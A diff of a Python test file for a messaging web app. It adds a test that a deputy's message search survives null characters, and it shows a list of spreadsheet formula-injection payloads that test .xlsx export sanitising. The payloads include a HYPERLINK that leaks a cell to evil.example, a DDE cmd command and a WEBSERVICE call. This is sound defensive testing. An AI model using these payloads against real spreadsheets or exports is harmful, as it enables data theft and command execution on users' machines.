@@ -86,6 +86,13 @@ def test_audit_search_for_a_control_character_is_an_empty_search_not_maintenance
     assert page.status_code == 200 and 'value="message"' in page.get_data(as_text=True)
 
 
+def test_a_deputys_message_search_for_a_control_character_is_a_search_not_maintenance(app, tmp_path):
+    deputy, _ = _signed_in_deputy(app, tmp_path)
+    _messages(app, [deputies(app)[0]["id"]], ["幸福小区门口的路灯坏了"])
+    page = deputy.get("/deputy/messages", query_string={"q": "路灯\x00", "topic": "\x00"})
+    assert page.status_code == 200 and "幸福小区门口的路灯坏了" in page.get_data(as_text=True)
+
+
 # --- 2. nothing from outside becomes a formula in the .xlsx export ---------------------------------
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&K2,"点击查看")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
             "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
